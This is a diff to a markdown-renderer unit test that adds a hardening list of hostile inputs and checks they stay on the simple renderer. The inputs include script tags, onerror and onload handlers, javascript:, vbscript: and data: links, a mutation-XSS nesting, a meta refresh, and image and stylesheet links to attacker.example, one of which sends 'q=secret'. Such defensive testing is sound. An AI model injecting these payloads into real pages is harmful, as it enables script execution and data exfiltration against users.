@@ -21,6 +21,11 @@ describe('needsRichMarkdown', () => {
     'We ship within **1 business day**, *usually* sooner: see [the policy](https://x.example/p) or https://x.example/faq.',
     'Steps:\n1. Open the app\n2. Tap `Settings`\n3. Done',
     '- one\n- two\n\nAfter the list. Q&A, 3 < 4, C# and 50% off (today).',
+    'call snake_case_name and window.__name',
+    // Raw HTML and links to refused schemes show as text in both renderers; an image is a link in both.
+    '<b>raw</b> and <script>window.__pwned = 1</script>',
+    '[click](javascript:alert(1)) [**b**](vbscript:x) [c](data:text/html,<script>alert(1)</script>)',
+    '![logo](https://x.example/logo.png "title")',
   ]
   const rich = [
     '### Opening hours',
@@ -38,9 +43,9 @@ describe('needsRichMarkdown', () => {
     'x &amp; y &#35;',
     '\\*not emphasis\\*',
     '**bold *nested* bold**',
-    'snake_case_name',
+    '__init__ and _x_',
+    'see <https://x.example>',
     'foo@bar.example',
-    '<b>raw</b>',
     'hard break  \nnext',
     'Title\n===',
     '    indented',
@@ -49,6 +54,26 @@ describe('needsRichMarkdown', () => {
   ]
   it.each(simple)('%j stays on the simple renderer', (text) => expect(needsRichMarkdown(text)).toBe(false))
   it.each(rich)('%j needs the rich renderer', (text) => expect(needsRichMarkdown(text)).toBe(true))
+  // e2e/hardening.spec.ts counts every request while these render: none may load the markdown chunk.
+  const HARDENING = [
+    '<script>window.__pwned = 1</script>',
+    '<img src=x onerror="window.__pwned = 2">',
+    '<svg onload="window.__pwned = 3"><script>window.__pwned = 4</script></svg>',
+    '<iframe src="https://attacker.example/frame"></iframe>',
+    '![](https://attacker.example/?q=secret)',
+    '![logo](https://attacker.example/logo.png "title")',
+    '[click](javascript:window.__pwned=5)',
+    '[click]( JaVaScRiPt:window.__pwned=6)',
+    '[click](data:text/html,<script>alert(1)</script>)',
+    '[**bold**](vbscript:msgbox)',
+    '<a href="javascript:window.__pwned=7">x</a>',
+    '<style>@import url(https://attacker.example/x.css)</style>',
+    '<link rel=stylesheet href=https://attacker.example/y.css>',
+    '<math><mtext><table><mglyph><style><img src=x onerror="window.__pwned=8">',
+    '<video src=https://attacker.example/v.mp4 autoplay></video><audio src=https://attacker.example/a.mp3 autoplay></audio>',
+    '<meta http-equiv="refresh" content="0;url=https://attacker.example/">',
+  ]
+  it.each(HARDENING)("the hardening spec's %j stays on the simple renderer", (text) => expect(needsRichMarkdown(text)).toBe(false))
   it('the rich reply of the copy and transcript tests needs it', () => expect(needsRichMarkdown(RICH_REPLY)).toBe(true))
 })
 
